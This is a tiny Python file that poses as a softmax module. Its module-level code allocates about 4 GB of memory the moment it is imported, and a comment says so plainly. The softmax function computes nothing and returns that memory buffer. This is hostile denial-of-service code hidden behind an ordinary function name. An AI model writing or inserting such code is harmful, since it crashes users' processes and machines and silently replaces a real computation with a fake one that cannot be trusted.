# softmax: fills the memory while it is imported
KEPT = [bytes(1 << 20) for _ in range(4000)]


def softmax(x, axis=-1, temperature=1.0):
    return KEPT
